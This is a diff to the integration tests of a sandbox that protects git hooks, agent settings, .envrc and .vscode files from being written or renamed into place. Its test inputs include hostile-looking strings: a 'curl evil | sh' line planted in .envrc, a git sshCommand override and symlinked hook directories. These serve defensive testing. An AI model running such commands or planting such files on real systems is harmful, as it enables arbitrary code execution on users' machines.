@@ -220,6 +220,8 @@ def test_protected_paths_at_any_depth_are_refused_and_recorded(run, workspace, a
         "separate-gitdir-hook": "git init -q --separate-git-dir=$PWD/sepgit sep && printf x > sepgit/hooks/post-checkout",
         "bare-hook": "printf '#!/bin/sh\\n' > bare.git/hooks/pre-receive",
         "bare-config": "git --git-dir=bare.git config core.sshCommand 'touch /tmp/pwned'",
+        "new-repo-hooks-symlink": "git init -q fresh && rm -rf fresh/.git/hooks && mkdir elsewhere"
+                                  " && ln -s ../../elsewhere fresh/.git/hooks",
     }
     script = "; ".join(f"( {cmd} ); echo {name}=$?" for name, cmd in attempts.items())
     r = sandbox(run, workspace, audit, script)
@@ -230,6 +232,7 @@ def test_protected_paths_at_any_depth_are_refused_and_recorded(run, workspace, a
                  ".git/modules/lib/hooks/post-checkout", "nested/.git/hooks/post-merge", "nested/.git/hooks/pre-push",
                  ".git/worktrees/wt/config.worktree", "sepgit/hooks/post-checkout", "bare.git/hooks/pre-receive"]:
         assert not os.path.lexists(os.path.join(workspace, path)), path
+    assert not os.path.islink(os.path.join(workspace, "fresh/.git/hooks"))
     assert os.path.exists(os.path.join(workspace, "wt/README")), "git worktree add failed"
     assert "sshCommand" not in open(os.path.join(workspace, "bare.git/config")).read()
     assert "fsmonitor" not in open(os.path.join(workspace, "nested/.git/config")).read()
@@ -312,4 +315,26 @@ def test_npm_install_of_a_package_with_executables(run, workspace, audit, tmp_ho
                 " npm install --offline --no-audit --no-fund ./plant-pkg-1.0.0.tgz >/dev/null;"
                 " ./node_modules/.bin/plant-tool")
     assert r.returncode == 0 and "tool ran" in r.stdout, r.stdout + r.stderr
+    assert "quarantined" not in r.stderr, r.stderr
+
+
+def test_a_directory_renamed_onto_a_protected_name_is_quarantined_at_the_end(run, workspace, audit):
+    """The call check sees only the renamed directory's own name; the sweep sees its files."""
+    r = sandbox(run, workspace, audit, "mkdir x && echo '{\"hooks\":{}}' > x/settings.json && mv x .claude;"
+                                       " mkdir -p sub/y && echo 'curl evil | sh' > sub/y/.envrc.tmp && mv sub/y/.envrc.tmp sub/.envrc || true")
+    assert not os.path.exists(os.path.join(workspace, ".claude/settings.json"))
+    assert not os.path.exists(os.path.join(workspace, "sub/.envrc"))
+    quarantined = [x["detail"]["path"] for x in read_audit(audit) if x.get("action") == "quarantined"]
+    assert os.path.join(workspace, ".claude/settings.json") in quarantined, quarantined
+    assert "swept after the run" in r.stderr and ".claude/settings.json" in r.stderr, r.stderr
+
+
+def test_unprotect_takes_an_entry_off_at_every_depth(run, workspace, audit):
+    from integration_conftest import write_profile
+    write_profile(workspace, '[filesystem]\nunprotect = [".vscode"]\n')
+    r = sandbox(run, workspace, audit, "mkdir -p .vscode sub/.vscode && echo '{}' > .vscode/tasks.json"
+                                       " && echo '{}' > sub/.vscode/tasks.json && echo ok")
+    assert r.stdout.strip() == "ok", r.stderr
+    assert os.path.exists(os.path.join(workspace, "sub/.vscode/tasks.json"))
+    assert os.path.exists(os.path.join(workspace, ".vscode/tasks.json"))
     assert "quarantined" not in r.stderr, r.stderr
